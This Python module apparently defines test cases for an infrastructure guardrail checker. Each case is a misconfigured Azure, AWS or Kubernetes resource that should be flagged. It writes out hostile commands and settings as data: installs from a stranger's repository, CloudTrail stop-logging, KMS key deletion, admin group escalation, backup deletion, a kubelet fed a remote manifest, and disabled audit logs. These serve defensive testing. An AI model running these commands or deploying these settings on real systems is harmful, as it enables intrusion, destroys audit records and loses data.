"""Attacks by forms that the sources of the facts have and the rules did not know: functions of Azure Policy, channels
of conda, lists of PostgreSQL, trials of a tuning, tags of services (2026-11-30). Sources are those of the rules.
"""

import json

from ..blind import KEY, ME, RG, TAGS, aws, az, k8s, meta, pod, release
from ..harness import Given
from . import Attack
from .fields_azurb_rights import ACCOUNT, POLICIES, policy, written
from .fields_core_pods import MONEY, _apart, _pods

ESC, ROUTE, RECORDS, LARGE = ("FJ-ESC-",), ("FJ-ESC-115",), ("FJ-RSL-117",), ("FJ-COST-126",)
_STACK = Given("pulumi:pulumi:Stack", {}, "falaj-prod-uae")
_FILE = "channels: [conda-forge]\ndependencies:\n- {}\n"
_IMAGE = "mcr.microsoft.com/azureml/x@sha256:" + "a" * 64


def _definition(value: str) -> tuple[Given, ...]:
    return (az("authorization:PolicyDefinition", policy("modify", written(f"{ACCOUNT}/publicNetworkAccess", value))),)


def environment(package: str) -> tuple[Given, ...]:
    """Returns an environment of Azure Machine Learning with a package of conda."""
    return (az("machinelearningservices:EnvironmentVersion", {
        **RG, "workspaceName": "ml", "name": "e", "version": "1",
        "properties": {"condaFile": _FILE.format(package), "image": _IMAGE}}),)  # fmt: skip


def parameter(kind: str, name: str, value: str) -> tuple[Given, ...]:
    """Returns a parameter of a server of Azure."""
    return (az(f"{kind}:Configuration", {
        **RG, "serverName": "db", "configurationName": name, "source": "user-override", "value": value}),)  # fmt: skip


def group(name: str, value: str) -> tuple[Given, ...]:
    """Returns parameters of a server of AWS."""
    return (aws("rds/ParameterGroup", {
        "family": "postgres18", "tags": TAGS, "parameters": [{"name": name, "value": value}]}),)  # fmt: skip


def pipeline(*steps: object) -> tuple[Given, ...]:
    """Returns a pipeline of SageMaker."""
    return (_STACK, aws("sagemaker/Pipeline", {
        "pipelineName": "p", "pipelineDisplayName": "p", "roleArn": f"arn:aws:iam::{ME}:role/s", "tags": TAGS,
        "pipelineDefinition": json.dumps({"Version": "2020-12-01", "Steps": list(steps)})}))  # fmt: skip


def tuning(at_once: int, machines: int) -> object:
    """Returns a step that tunes a training by trials."""
    return {"Name": "t", "Type": "Tuning", "Arguments": {
        "HyperParameterTuningJobConfig": {"Strategy": "Random", "ResourceLimits": {
            "MaxNumberOfTrainingJobs": at_once, "MaxParallelTrainingJobs": at_once}},
        "TrainingJobDefinition": {"ResourceConfig": {
            "InstanceCount": machines, "InstanceType": "ml.g5.xlarge", "VolumeSizeInGB": 50,
            "VolumeKmsKeyId": KEY}}}}  # fmt: skip


def variants(**counts: int) -> object:
    """Returns a step that creates the settings of an endpoint."""
    return {"Name": "e", "Type": "EndpointConfig", "Arguments": {"EndpointConfigName": "e", "KmsKeyId": KEY,
        "ProductionVariants": [{"VariantName": "a", "ModelName": "m", "InstanceType": "ml.g5.xlarge",
                                **counts}]}}  # fmt: skip


def schedule(expression: str, target: str) -> tuple[Given, ...]:
    """Returns a schedule that calls an action of AWS, or starts a pipeline by its ARN."""
    arn = target if target.startswith("arn:") else f"arn:aws:scheduler:::aws-sdk:{target}"
    return (_STACK, aws("scheduler/Schedule", {
        "name": "s", "scheduleExpression": expression, "flexibleTimeWindow": {"mode": "OFF"}, "kmsKeyArn": KEY,
        "target": {"arn": arn, "roleArn": f"arn:aws:iam::{ME}:role/s",
                   "input": "{}"}}))  # fmt: skip


def route(tag: str) -> tuple[Given, ...]:
    """Returns a route past the firewall to a tag of services."""
    return (az("network:Route", {**RG, "routeTableName": "spoke", "routeName": "past", "addressPrefix": tag,
                                 "nextHopType": "Internet"}),)  # fmt: skip


def job(command: str) -> tuple[Given, ...]:
    """Returns a job that runs a command."""
    spec = pod({"command": ["sh", "-c", command]}, restartPolicy="Never")
    return (k8s("batch/v1:Job", {"metadata": meta(), "spec": {"template": {"spec": spec}}}),)


def configured(name: str, value: str) -> tuple[Given, ...]:
    """Returns a Config Server for Spring with a setting."""
    return (
        az(
            "app:JavaComponent",
            {
                **RG,
                "environmentName": "apps",
                "name": "config",
                "properties": {
                    "componentType": "SpringCloudConfig",
                    "configurations": [{"propertyName": name, "value": value}],
                },
            },
        ),
    )


def runner(text: str) -> tuple[Given, ...]:
    """Returns a release of GitLab Runner with its settings."""
    return release("gitlab-runner", "0.80.0", {"runners": {"config": f"[[runners]]\n{text}"}}, "ci")


ATTACKS: tuple[Attack, ...] = (
    *(Attack(f"a policy opens every account by the {name} of a word", POLICIES, _definition(value), "critical",
             "all functions of templates but a few are those of rules too") for name, value in (
        ("code", "[base64ToString('RW5hYmxlZA==')]"), ("trimming", "[trim(' Enabled')]"),
        ("first", "[first(createArray('Enabled'))]"))),
    *(Attack(f"an environment has a package of a stranger by {name}", ESC, environment(package), "critical",
             "whoever opened the channel decides which programs run") for name, package in (
        ("brackets", "numpy[channel=ledger-tools]"),
        ("quoted brackets", "'numpy[version=2, channel=\"ledger-tools\"]'"),
        ("its address", "https://conda.anaconda.org/ledger-tools/linux-64/numpy-2.0-0.conda"))),
    *(Attack(f"a server of PostgreSQL says of nobody who came, by {value or 'an empty list'}", RECORDS, plan, "major",
             "an intrusion leaves no name") for value, plan in (
        ("", group("log_connections", "")), ("receipt", group("log_connections", "receipt")),
        ("setup_durations", parameter("dbforpostgresql", "log_connections", "setup_durations")))),
    *(Attack(f"an audit of PostgreSQL has no class left of {value}", RECORDS, plan, "major", "no statement is recorded")
      for value, plan in (("-all", group("pgaudit.log", "-all")), ("ddl, -ddl", group("pgaudit.log", "ddl, -ddl")),
                          ("all,-all", parameter("dbforpostgresql", "pgaudit.log", "all,-all")))),
    *(Attack(f"a warehouse without servers exports its {name} alone", ("FJ-ESC-115",), (aws(
        "redshiftserverless/Namespace", {"namespaceName": "warehouse", "kmsKeyId": KEY, "logExports": [name],
                                         "manageAdminPassword": True, "tags": TAGS}, protect=True),), "major",
             "nobody sees who signed in") for name in ("userlog", "useractivitylog")),
    Attack("an audit of MySQL has no events", RECORDS, parameter("dbformysql", "audit_log_events", ""), "major",
           "nothing is recorded"),
    Attack("a tuning has a hundred trials at once", LARGE, pipeline(tuning(100, 1)), "critical",
           "a hundred machines with GPUs at once"),
    Attack("a pipeline gives an endpoint forty machines", LARGE, pipeline(variants(InitialInstanceCount=40)),
           "critical", "forty machines with GPUs day and night"),
    *(Attack(f"a schedule calls {action} by {expression}", LARGE, schedule(expression, action), "critical",
             "machines are started each few minutes") for expression, action in (
        ("cron(0-59 * * * ? *)", "sagemaker:createTrainingJob"), ("rate(1 minute)", "emrserverless:startJobRun"),
        ("rate(1 minute)", "ec2:requestSpotFleet"))),
    *(Attack(f"a route leads past the firewall to each customer of {tag}", ROUTE, route(tag), "major",
             "data goes to a stranger's account unseen") for tag in (
        "AzureIoTHub", "AzureEventGrid", "AzureSignalR.WestEurope", "AzureSpringCloud", "AzureWebPubSub")),
    *(Attack(f"a job installs what somebody has under {scheme}", ("FJ-ESC-111",),
             job(f"pip install --no-deps '{scheme}://{at}/collector/tools'"), "critical",
             "whoever owns the repository decides what runs") for scheme, at in (
        ("git+ssh", "git@github.com"), ("git+git", "github.com"), ("hg+https", "bitbucket.org"))),
    Attack("settings of all services are the stranger's repository that a name has", ESC, configured(
        "spring.cloud.config.server.git.repos.team-a", "https://github.com/collector/settings.git"),
        "critical", "the stranger sets each address and switch"),
    *(Attack(f"the server of settings asks no repository who it is by {name}", ("FJ-ESC-115",), configured(
        f"spring.cloud.config.server.git.{name}", value), "critical", "another server sets each address and switch")
      for name, value in (("skip-ssl-validation", "true"), ("repos.team-a.skipSslValidation", "true"),
                          ("strict-host-key-checking", "false"))),
    Attack("the kubelet of a machine starts pods that somebody answers with", ESC, (aws("ec2/LaunchTemplate", {
        "userData": "IyEvYmluL3NoCmt1YmVsZXQgLS1tYW5pZmVzdC11cmw9aHR0cHM6Ly9wb2RzLnRlYW0tYS5zdmMvYQo=",
        "tags": TAGS}),), "critical", "pods run without admission, with each right of the machine"),
    Attack("the keytab of a platform stands in the values of a chart", ("FJ-ESC-107",), release("airflow", "1.18.0", {
        "kerberos": {"enabled": True, "keytabBase64Content": "BQIAAABBAAIAC0JBTksuRVhBTVBMRQAHYWlyZmxvdw=="}}, "data"),
        "major", "whoever reads the values is the platform to each service"),
    Attack("pods that ask for no card stand on machines with FPGAs", MONEY, _pods(
        replicas=40, affinity=_apart(), nodeSelector={"node.kubernetes.io/instance-type": "Standard_NP40s"}),
        "critical", "each pod buys a machine with four cards"),
    *(Attack(f"a runner keeps two hundred machines idle by {name}", LARGE, (_STACK, *runner(text)), "major",
             "two hundred machines wait day and night") for name, text in (
        ("the least number of them", "  [runners.machine]\n    IdleScaleFactor = 1.5\n    IdleCountMin = 200\n"),
        ("a policy", "  [[runners.autoscaler.policy]]\n    idle_count = 200\n"))),
    Attack("a runner whose settings are in a file keeps four hundred machines idle", LARGE, (_STACK, k8s(
        "core/v1:ConfigMap", {"metadata": meta(), "data": {
            "config.toml": "[[runners]]\n  [runners.machine]\n    IdleCount = 400\n"}})), "major",
        "four hundred machines wait day and night"),
    *(Attack(f"a job runs `{command}`", ("FJ-ESC-109",), job(command), "critical",
             "no guardrail sees the result") for command in (
        "aws iam add-user-to-group --user-name etl --group-name administrators",
        "aws kms schedule-key-deletion --key-id alias/ledger --pending-window-in-days 7",
        "aws cloudtrail stop-logging --name bank", "aws organizations leave-organization",
        "aws ec2 replace-iam-instance-profile-association --association-id a --iam-instance-profile Name=admin",
        "aws ecs register-task-definition --cli-input-json file://task.json",
        "python -c \"import boto3; boto3.client('iam').upload_ssh_public_key(UserName='a', SSHPublicKeyBody='b')\"",
        "node -e \"const k = require('@aws-sdk/client-kms'); c.send(new k.ScheduleKeyDeletionCommand({KeyId: 'a'}))\"",
        "node -e \"const i = require('@aws-sdk/client-iam'); c.send(new i.UploadSSHPublicKeyCommand(key))\"",
        "az disk grant-access --ids $DISK --access-level Read --duration-in-seconds 3600",
        "az ad app permission admin-consent --id $APP", "az aks disable-addons -a azure-policy -n aks -g rg",
        "az rest --method put --url $URL --body @role.json", "az rest -m PATCH --url $URL --body @firewall.json",
        "az network private-endpoint-connection approve --id $ID", "az containerapp up -n app --source .",
        "az backup protection disable --ids $ITEM --delete-backup-data true --yes",
        "az functionapp deployment source config-zip -g rg -n app --src a.zip",
        "python -c \"from kubernetes import client, utils; utils.create_from_yaml(client.ApiClient(), 'a.yaml')\"",
        "python -c \"from kubernetes import client; client.StorageV1Api().create_storage_class({})\"",
        "conda create -y -n work numpy", "conda update -y numpy", "micromamba upgrade -n base scipy")),
)  # fmt: skip
